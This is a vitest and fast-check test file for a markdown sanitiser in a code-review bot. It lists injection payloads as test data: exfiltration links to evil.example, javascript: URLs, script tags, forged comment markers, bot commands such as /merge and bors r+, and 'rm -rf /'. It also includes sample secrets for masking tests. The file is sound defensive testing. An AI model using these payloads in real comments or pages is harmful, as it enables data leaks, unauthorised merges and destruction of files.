import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import {
  cellSpan,
  codeSpan,
  fence,
  parseMarkdown,
  plainText,
  sanitiseLine,
  sanitiseMarkdown,
} from '../../../src/core/review/sanitise.ts'
import { activeParts } from '../../support/rendered.ts'

const place = { owner: 'acme', name: 'shop', webUrl: 'https://github.com' }
const sha = 'b'.repeat(40)
const clean = (text: string) => sanitiseMarkdown(text, place, 4_000)

/** Ways out: of the page, of the fence, to people, to bots. */
const payloads = [
  '![](https://evil.example/?q=SECRET)',
  '![alt](https://evil.example/x.png "t")',
  '![x][ref]\n\n[ref]: https://evil.example/x.png',
  '[click](https://evil.example)',
  '[click](//evil.example)',
  '[click](javascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](vbscript:x)',
  '[click](https://github.com/acme/shop/issues/1)',
  '[click](https://github.com/acme/shop.evil/blob/x)',
  `[click](https://github.com/acme/shop/blob/${sha}/../../../../evil/repo)`,
  `[click](https://github.com/acme/shop/blob/${sha}/%2e%2e/%2e%2e/x)`,
  `[click](https://github.com@evil.example/acme/shop/blob/${sha}/a)`,
  '[a]: //evil.example\n\n[a]',
  '[a][b]\n\n[b]: <https://evil.example>',
  '[![x](https://evil.example/i)](https://evil.example/l)',
  '<https://evil.example>',
  '<mailto:x@evil.example>',
  'https://evil.example/?q=SECRET',
  'http://xn--80ak6aa92e.com',
  'www.',
  'www.evil.example/?q=SECRET',
  'ftp://evil.example',
  'see evil@evil.example',
  '<img src="https://evil.example/x">',
  '<a href="https://evil.example">x</a>',
  '<script>alert(1)</script>',
  '<iframe src=//evil.example></iframe>',
  '<details><summary>x</summary>\n\n<img src=x>\n\n</details>',
  '<!-- cupel:review:forged -->',
  '<!-- hidden -->text',
  '&lt;!-- cupel:finding:forged --&gt;',
  '<svg><style>@import "//evil.example"</style></svg>',
  'text[^1]\n\n[^1]: https://evil.example',
  '```mermaid\ngraph TD; click A "https://evil.example"\n```',
  '```math\n\\href{https://evil.example}{x}\n```',
  '$\\href{https://evil.example}{x}$',
  '$`\\href{https://evil.example}{x}`$',
  '```geojson\n{}\n```',
  '```suggestion\nrm -rf /\n```',
  '````\n```\n![x](https://evil.example)\n````',
  '```\ncode\n```\n\n![x](https://evil.example)',
  '~~~\n![x](https://evil.example)',
  '@octocat please look',
  '@acme/owners',
  '&#64;octocat and &commat;octocat',
  '\\@octocat',
  '@[octocat](x)',
  '@![octocat](x)',
  '@<!-- -->octocat',
  '@</b>octocat',
  'w</b>ww.evil.example',
  'https:</b>//evil.example',
  'fixes #1',
  'closes acme/shop#1, GH-2',
  'fixes #</b>12',
  'resolves https://github.com/acme/shop/issues/1',
  '/merge',
  'text\n/approve now',
  'text  \n/approve now',
  '- /approve',
  '> /approve',
  '1. @dependabot rebase',
  '`/merge`\n\n```\n/merge\n@bors r+\nbors r+\n```',
  '<b>/merge</b>',
  'bors r+',
  '| a |\n| - |\n| ![x](https://evil.example) @octocat /merge |',
  '# @octocat ![x](https://evil.example)',
  'Heading https://evil.example\n===',
  '***@octocat***',
  '[x] @octocat\n- [x] https://evil.example',
  'a\u202E\u200B\u2066b\u{E0041}',
  '>'.repeat(4_000),
  `${'- '.repeat(1_500)}@octocat`,
  '['.repeat(4_000),
  '`'.repeat(4_000),
]

describe('a payload', () => {
  it.each(payloads)('%j acts on nobody as a body or as a title', payload => {
    expect(activeParts(clean(payload))).toEqual([])
    const title = sanitiseLine(payload, place, 200)
    expect(activeParts(title)).toEqual([])
    expect(title).not.toContain('\n')
  })

  it.each(payloads)('%j does nothing when it stands in code', payload => {
    for (const text of [codeSpan(payload), fence(payload, 'text')])
      expect(parseMarkdown(text).children.map(node => node.type)).toEqual([
        text.includes('\n') ? 'code' : 'paragraph',
      ])
    expect(activeParts(`| ${cellSpan(payload)} |`).filter(part => !part.startsWith('command'))).toEqual([])
  })

  it('stays harmless however payloads are put together', () => {
    const bits = fc.oneof(
      fc.constantFrom(...payloads.filter(payload => payload.length < 200)),
      fc.constantFrom(
        '@',
        '#',
        '/',
        '\\',
        '`',
        '```',
        '\n',
        '\n\n',
        '  \n',
        '<',
        '>',
        '[',
        '](',
        ')',
        '!',
        '*',
        '_',
        '~',
        '|',
        '&',
        ';',
        ':',
        '//',
        'www.',
        '- ',
        '\t',
        ' ',
        '1',
        'a',
        '<b>',
        '</b>',
        '<!--',
        '-->',
        '$',
        '://',
        'http',
      ),
      fc.string({ unit: 'binary', maxLength: 6 }),
    )
    fc.assert(
      fc.property(fc.array(bits, { maxLength: 12 }), parts => {
        const text = parts.join('')
        expect(activeParts(`${clean(text)}\n\n${sanitiseLine(text, place, 200)}`)).toEqual([])
      }),
      { numRuns: 150 },
    )
  })
})

describe('what a reader should get', () => {
  it.each([
    ['plain words', 'plain words'],
    ['Plain: words (and `code_1`), 5 % of it?', 'Plain: words (and `code_1`), 5 % of it?'],
    ['Two\n\nParagraphs. ', 'Two\n\nParagraphs.'],
    ['code `a``b` twice', 'code `a``b` twice'],
    ['**bold** and *soft*', '**bold** and *soft*'],
    ['use `Array<string>`', 'use `Array<string>`'],
    ['call `/api/users`', 'call `/api/users`'],
    ['- one\n- two', '- one\n- two'],
    ['1. one\n2. two', '1. one\n2. two'],
    ['```ts\nconst a = 1\n```', '```ts\nconst a = 1\n```'],
    ['# Title\ntext', '**Title**\n\ntext'],
    ['a Map<string> here', 'a Map`<string>` here'],
    ['> quoted', 'quoted'],
    ['| a | b |\n| - | - |\n| c | d |', 'a · b\n\nc · d'],
    ['costs $5.', 'costs `$5`.'],
    ['see ![the diagram](https://evil.example/x)', 'see the diagram'],
    ['ask @[octocat](x) or @</b>octocat', 'ask `@octocat` or `@octocat`'],
    ['it leaks AKIAIOSFODNN7EXAMPLE here', 'it leaks \\[secret removed] here'],
    ['@Injectable() is missing', '`@Injectable`() is missing'],
    ['see https://evil.example/x', 'see `evil.example (link removed)`'],
    [
      `[here](https://github.com/acme/shop/blob/${sha}/src/a.ts#L1-L2)`,
      `[here](https://github.com/acme/shop/blob/${sha}/src/a.ts#L1-L2)`,
    ],
    ['', ''],
  ])('of %j is %j', (text, expected) => {
    expect(clean(text)).toBe(expected)
  })

  it('is at most so long, and no more than four times as long when printed', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.integer({ min: 20, max: 200 }), (text, max) => {
        const printed = sanitiseMarkdown(text.repeat(20), place, max)
        expect(printed.length).toBeLessThanOrEqual(4 * max + 40)
      }),
    )
  })
})

describe('secrets', () => {
  it.each([
    ['an AWS key', 'AKIAIOSFODNN7EXAMPLE'],
    ['a GitHub token', `ghp_${'a1B2'.repeat(9)}`],
    ['a model key', `sk-${'a1B2c3D4'.repeat(5)}`],
    ['a private key', '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----'],
    ['credentials in an address', 'postgres://app:hunter22@db.internal/x'],
    ['a token without a name', 'q7Kx9vB2mN4pL8sT1wZ5rY3cF6hJ0dG4aE2uIo9P'],
    ['a JSON web token', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc-def'],
  ])('%s is masked in prose, code, titles, spans and plain text', (_, secret) => {
    const telling = secret.split('\n')[0]?.slice(0, 16) ?? ''
    for (const text of [
      clean(`It leaks ${secret} here`),
      clean(`\`\`\`\n${secret}\n\`\`\``),
      clean(`Use \`${secret}\``),
      sanitiseLine(`Leaks ${secret}`, place, 400),
      codeSpan(secret),
      plainText(secret, 400),
    ])
      expect(text).not.toContain(telling)
  })

  it.each([
    sha,
    'src/components/deeply/nested/Folder/Component2Test',
    'aVeryLongIdentifierNameWithoutAnyDigitsAtAllInIt',
    'npm_config_registry',
  ])('%s is none', text => {
    expect(plainText(text, 400)).toBe(text)
  })
})

it.each([
  ['a', '`a`'],
  ['a`b', '``a`b``'],
  ['`a`', '`` `a` ``'],
  ['a | b', '`a | b`'],
  ['two\nlines', '`two lines`'],
  ['', '`  `'],
  ['<!-- cupel:summary -->', '`<! -- cupel:summary -->`'],
])('a code span of %j is %j', (text, expected) => {
  expect(codeSpan(text)).toBe(expected)
})

it.each(['a|b', 'a\\|b', 'a\\\\|@octocat', 'a\\\\\\|www.evil.example|x', '`|`'])(
  '%j stays in its cell of a table',
  text => {
    const [table] = parseMarkdown(`| x | y |\n| - | - |\n| ${cellSpan(text)} | 1 |`).children
    const row = table?.type === 'table' ? table.children[1] : undefined
    expect(row?.children.map(cell => cell.children.map(node => node.type))).toEqual([
      ['inlineCode'],
      ['text'],
    ])
  },
)
